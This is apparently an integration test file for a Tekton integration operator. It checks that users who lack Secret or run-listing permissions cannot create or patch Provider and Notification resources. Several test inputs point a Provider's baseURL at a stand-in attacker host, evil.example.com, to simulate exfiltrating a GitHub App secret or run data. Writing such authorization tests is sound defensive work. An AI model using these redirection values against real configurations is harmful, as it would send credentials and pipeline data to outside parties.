import assert from "node:assert/strict";
import { installedTests } from "../support/installed-tests.ts";
import type { KubeObject } from "../support/kube-client.ts";
import { cloudEventsProvider, notification } from "../support/manifests.ts";
import { getSecret, listRuns, ourKinds, somebody } from "../support/somebody.ts";

const test = installedTests();

const apiVersion = "integrations.tekton.ornew.io/v1alpha1";

const gitHub = (namespace: string, name: string, more: object = {}, spec: object = {}): KubeObject => ({
  apiVersion,
  kind: "Provider",
  metadata: { namespace, name },
  spec: { type: "GitHubApp", githubApp: { appId: 1, privateKey: { secretRef: { name: "github-app" } }, ...more }, ...spec },
});

test("whoever may not read a Secret makes no Provider send it anywhere: not by creating, changing, applying, re-creating or while it is deleted", async (world) => {
  const { plane } = world;
  const namespace = "secrets-of-others";
  await world.createNamespace(namespace);
  const mallory = await somebody(world, namespace, "mallory", ourKinds, listRuns);
  await world.apply(gitHub(namespace, "good"), { ...gitHub(namespace, "held"), metadata: { name: "held", namespace, finalizers: ["example.com/hold"] } });
  const message = /cannot get resource "secrets" "github-app" in API group "" in the namespace "secrets-of-others"/;
  const refused = async (attempt: Promise<{ code: number; stderr: string }>): Promise<void> => {
    const { code, stderr } = await attempt;
    assert.equal(code, 1);
    assert.match(stderr, message);
  };
  await refused(mallory.apply(gitHub(namespace, "own", { baseURL: "https://evil.example.com/api/v3" })));
  await refused(mallory.apply(gitHub(namespace, "good", { baseURL: "https://evil.example.com/api/v3" })));
  await refused(mallory.apply(gitHub(namespace, "good", { baseURL: "https://evil.example.com/api/v3" }), "--server-side", "--force-conflicts"));
  const patch = (spec: object) => mallory.run(["patch", "provider", "good", "-n", namespace, "--type=merge", "-p", JSON.stringify({ spec })]);
  for (const spec of [{ githubApp: { baseURL: "https://evil.example.com" } }, { timeout: "5s" }, { suspend: true }, { githubApp: { installationId: 7 } }]) await refused(patch(spec));
  await plane.kubectl(["delete", "provider", "held", "-n", namespace, "--wait=false"]);
  await refused(mallory.run(["patch", "provider", "held", "-n", namespace, "--type=merge", "-p", '{"spec":{"githubApp":{"baseURL":"https://evil.example.com"}}}']));
  // What does not touch the spec stays possible, and so does taking away.
  assert.equal((await mallory.run(["label", "provider", "held", "-n", namespace, "a=b"])).code, 0);
  assert.equal((await mallory.run(["patch", "provider", "held", "-n", namespace, "--type=merge", "-p", '{"metadata":{"finalizers":null}}'])).code, 0);
  assert.equal((await mallory.run(["delete", "provider", "good", "-n", namespace])).code, 0);
  await refused(mallory.apply(gitHub(namespace, "good")));

  const alice = await somebody(world, namespace, "alice", ourKinds, listRuns, getSecret("github-app"));
  assert.equal((await alice.apply(gitHub(namespace, "good"))).code, 0);
  await refused(mallory.run(["patch", "provider", "good", "-n", namespace, "--type=merge", "-p", '{"spec":{"githubApp":{"appId":2}}}']));
  assert.equal((await alice.apply(gitHub(namespace, "good", { appId: 2 }))).code, 0);
});

test("whoever may not list runs has none of them sent, by a Notification or by a Provider; what is missing is named", async (world) => {
  const namespace = "runs-of-others";
  await world.createNamespace(namespace);
  const mallory = await somebody(world, namespace, "mallory", ourKinds, { ...listRuns, resources: ["taskruns"] });
  const whole = await mallory.apply(notification(namespace, "mine", "events"));
  assert.equal(whole.code, 1);
  for (const resource of ["pipelineruns", "customruns"]) {
    assert.match(whole.stderr, new RegExp(`spec\\.filter: Forbidden: user "system:serviceaccount:runs-of-others:mallory" cannot list resource "${resource}" in API group "tekton.dev" in the namespace "runs-of-others"`));
  }
  assert.doesNotMatch(whole.stderr, /cannot list resource "taskruns"/);
  assert.match(whole.stderr, /^Error from server \(Forbidden\):/);
  assert.equal((await mallory.apply(notification(namespace, "mine", "events", { kinds: ["TaskRun"] }))).code, 0);
  assert.equal((await mallory.apply(notification(namespace, "mine", "events", { kinds: ["TaskRun", "CustomRun"] }))).code, 1);
  const provider = await mallory.apply(cloudEventsProvider(namespace, "events", "https://evil.example.com/"));
  assert.match(provider.stderr, /cannot list resource "pipelineruns" in API group "tekton\.dev" in the namespace "runs-of-others": a Provider decides where messages about runs go/);
});
